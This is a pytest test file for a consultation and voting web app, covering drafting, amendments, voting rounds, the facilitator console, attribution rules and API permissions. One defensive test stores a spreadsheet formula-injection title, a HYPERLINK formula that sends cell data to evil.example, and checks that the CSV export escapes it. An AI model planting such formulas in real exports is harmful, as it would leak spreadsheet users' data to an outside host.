import csv
import io

import pytest
from sqlalchemy import select

from consultations.models import AttributionRule, ConsultationStatus, Role
from portal.accounts.models import StakeholderGroup
from recommendations import drafting, voting
from recommendations.models import Amendment, AmendmentStatus, RecommendationStatus
from tests.conftest import find_user, sign_in, submit


@pytest.fixture
def plenary(session, make_consultation, make_user, register):
    def make(**fields):
        consultation = make_consultation(**fields)
        for role in ("facilitator", "rapporteur", "observer"):
            register(make_user(email=f"{role}@example.org", name=f"The {role}"), consultation,
                     Role(role))
        for number in range(3):
            register(make_user(email=f"p{number}@example.org", name=f"Delegate {number}",
                               stakeholder_group=StakeholderGroup.civil_society),
                     consultation, Role.participant)
        make_user(email="outsider@example.org")
        recommendation = drafting.create_recommendation(
            consultation, find_user("rapporteur@example.org"), title="Missing migrants",
            text="States should [share][exchange] data\non missing migrants.")
        session.flush()
        return consultation, recommendation

    return make


def page(client, path) -> str:
    response = client.get(path)
    assert response.status_code == 200, response.status_code
    return response.get_data(as_text=True)


def test_the_text_shows_numbered_lines_with_brackets_highlighted_and_versions_compare(
    client, plenary, session
):
    consultation, recommendation = plenary()
    sign_in(client, "rapporteur@example.org")
    base = f"/c/{consultation.slug}/recommendations/{recommendation.id}"
    assert '<mark class="bracketed">[exchange]</mark>' in page(client, base)

    submit(client, f"{base}/revise", {"text": "States should share data\non missing migrants."},
           form_path=base)

    html = page(client, base)
    assert '<li value="2">on missing migrants.</li>' in html
    assert '<mark class="bracketed">' not in html
    compared = page(client, f"{base}?from=1&to=2")
    assert "States should <del>[</del>share<del>][exchange]</del> data" in compared


def test_amendments_are_proposed_supported_and_decided_by_the_right_people(
    app, client, plenary, session
):
    consultation, recommendation = plenary()
    base = f"/c/{consultation.slug}/recommendations/{recommendation.id}"
    sign_in(client, "p0@example.org")
    submit(client, f"{base}/amendments", {"text": "States should share data.",
                                          "rationale": "Clearer."}, form_path=base)
    amendment = session.scalars(select(Amendment)).one()
    other = app.test_client()
    sign_in(other, "p1@example.org")
    action = f"/c/{consultation.slug}/amendments/{amendment.id}"

    submit(other, f"{action}/support", {}, form_path=base)
    assert submit(other, f"{action}/accept", {}, form_path=base).status_code == 403
    rapporteur = app.test_client()
    sign_in(rapporteur, "rapporteur@example.org")
    submit(rapporteur, f"{action}/accept", {}, form_path=base)

    session.refresh(amendment)
    session.refresh(recommendation)
    assert amendment.status == AmendmentStatus.accepted
    assert len(amendment.supports) == 1
    assert recommendation.current_version.text == "States should share data."


def test_a_vote_by_plain_form_is_stored_and_a_closed_round_says_so(
    app, client, plenary, session
):
    consultation, recommendation = plenary()
    recommendation.versions[-1].text = "States should share data."
    session.flush()
    facilitator = app.test_client()
    sign_in(facilitator, "facilitator@example.org")
    submit(facilitator, f"/c/{consultation.slug}/recommendations/{recommendation.id}/rounds",
           {"countdown_minutes": "", "quorum": "1"}, form_path=f"/c/{consultation.slug}/console")
    round_ = voting.open_round_of(consultation.id)
    assert round_ is not None
    sign_in(client, "p0@example.org")
    base = f"/c/{consultation.slug}/recommendations/{recommendation.id}"

    stored = submit(client, f"/c/{consultation.slug}/rounds/{round_.id}/vote",
                    {"choice": "support_with_reservations", "reservation": "Budget allowing."},
                    form_path=base, follow_redirects=True)
    assert "Your vote is stored: Support with reservations." in stored.get_data(as_text=True)

    submit(facilitator, f"/c/{consultation.slug}/rounds/{round_.id}/close", {"confirm": "y"},
           form_path=f"/c/{consultation.slug}/console")
    late = submit(client, f"/c/{consultation.slug}/rounds/{round_.id}/vote",
                  {"choice": "oppose"}, form_path=base)
    assert late.status_code == 400
    assert "This vote is closed: your vote was not counted." in late.get_data(as_text=True)
    session.refresh(recommendation)
    assert recommendation.status == RecommendationStatus.adopted


def test_a_text_with_brackets_cannot_be_opened_for_a_final_vote(app, plenary, session):
    consultation, recommendation = plenary()
    facilitator = app.test_client()
    sign_in(facilitator, "facilitator@example.org")

    response = submit(
        facilitator, f"/c/{consultation.slug}/recommendations/{recommendation.id}/rounds",
        {}, form_path=f"/c/{consultation.slug}/console", follow_redirects=True)

    assert "cannot be put to a final vote" in response.get_data(as_text=True)
    assert voting.open_round_of(consultation.id) is None


def test_the_console_is_for_facilitators_and_records_the_show_of_hands(
    app, client, plenary, session
):
    consultation, recommendation = plenary()
    recommendation.versions[-1].text = "Plain text."
    session.flush()
    sign_in(client, "p0@example.org")
    assert client.get(f"/c/{consultation.slug}/console").status_code == 403
    facilitator = app.test_client()
    sign_in(facilitator, "facilitator@example.org")
    submit(facilitator, f"/c/{consultation.slug}/recommendations/{recommendation.id}/rounds",
           {}, form_path=f"/c/{consultation.slug}/console")
    round_ = voting.open_round_of(consultation.id)

    submit(facilitator, f"/c/{consultation.slug}/rounds/{round_.id}/in-room",
           {"support": "12", "support_with_reservations": "0", "oppose": "0", "abstain": "3"},
           form_path=f"/c/{consultation.slug}/console")

    session.refresh(round_)
    assert (round_.in_room_support, round_.in_room_abstain) == (12, 3)
    refused = submit(facilitator, f"/c/{consultation.slug}/rounds/{round_.id}/in-room",
                     {"support": "99999999999999999999999"},
                     form_path=f"/c/{consultation.slug}/console", follow_redirects=True)
    assert "Counts are whole numbers from 0 to 100000." in refused.get_data(as_text=True)
    session.refresh(round_)
    assert round_.in_room_support == 12
    console = page(facilitator, f"/c/{consultation.slug}/console")
    assert 'data-in-room="support">12<' in console
    projector = page(facilitator, f"/c/{consultation.slug}/projector")
    assert "<svg" in projector and "Vote open" in projector


@pytest.mark.parametrize("rule, shown, hidden", [
    (AttributionRule.attributed, "Delegate 0", None),
    (AttributionRule.chatham_house, "Civil society", "Delegate 0"),
])
def test_results_quote_reservations_by_the_attribution_rule(
    app, client, plenary, session, rule, shown, hidden
):
    consultation, recommendation = plenary(attribution_rule=rule)
    recommendation.versions[-1].text = "Plain text."
    session.flush()
    round_ = voting.open_round(recommendation, find_user("facilitator@example.org"))
    voting.cast_vote(round_, find_user("p0@example.org"), "support_with_reservations",
                     "Subject to parliament.")
    # Three voters of one group: enough to quote it under the Chatham House rule.
    for number in (1, 2):
        voting.cast_vote(round_, find_user(f"p{number}@example.org"), "support")
    voting.close_round(round_, find_user("facilitator@example.org"), confirmed=True)
    sign_in(client, "p1@example.org")

    html = page(client, f"/c/{consultation.slug}/results")
    exported = page(client, f"/c/{consultation.slug}/results.json")
    rows = list(csv.DictReader(io.StringIO(page(
        client, f"/c/{consultation.slug}/results.csv").lstrip("\ufeff"))))

    assert "Subject to parliament." in html and shown in html
    assert shown in exported
    if hidden:
        assert hidden not in html and hidden not in exported
    assert rows[0]["support_with_reservations"] == "1"
    assert rows[0]["adopted"] == "true"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_results_export_shows_a_title_that_looks_like_a_formula_as_text(
    app, client, plenary, session, start
):
    consultation, recommendation = plenary()
    # Set past the forms, which strip leading spaces: the export trusts no stored text.
    recommendation.title = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
    recommendation.versions[-1].text = "Plain text."
    session.flush()
    round_ = voting.open_round(recommendation, find_user("facilitator@example.org"))
    voting.cast_vote(round_, find_user("p0@example.org"), "support")
    voting.cast_vote(round_, find_user("p1@example.org"), "oppose")
    voting.close_round(round_, find_user("facilitator@example.org"), confirmed=True)
    sign_in(client, "p1@example.org")

    response = client.get(f"/c/{consultation.slug}/results.csv")

    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).removeprefix(
        "\ufeff"))))
    assert rows[0]["title"] == f'\'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
    assert (rows[0]["round"], rows[0]["support"], rows[0]["oppose"]) == ("1", "1", "1")


def test_the_json_api_answers_by_the_same_permissions(app, client, plenary, session,
                                                      make_consultation):
    consultation, recommendation = plenary()
    draft = make_consultation(status=ConsultationStatus.draft)
    path = f"/api/v1/consultations/{consultation.id}/recommendations"

    assert client.get(path).status_code == 401
    sign_in(client, "outsider@example.org")
    assert client.get(path).status_code == 403
    assert client.get(f"/api/v1/consultations/{draft.id}/recommendations").status_code == 404
    member = app.test_client()
    sign_in(member, "p0@example.org")
    answer = member.get(path).get_json()
    assert answer["recommendations"][0]["reference"] == "R1"
    recommendation.versions[-1].text = "Plain text."
    session.flush()
    round_ = voting.open_round(recommendation, find_user("facilitator@example.org"))
    voting.cast_vote(round_, find_user("p0@example.org"), "oppose")
    round_json = member.get(f"/api/v1/rounds/{round_.id}").get_json()
    assert round_json["open"] is True
    assert round_json["tally"]["counts"]["oppose"] == 1
    assert client.get(f"/api/v1/rounds/{round_.id}").status_code == 403
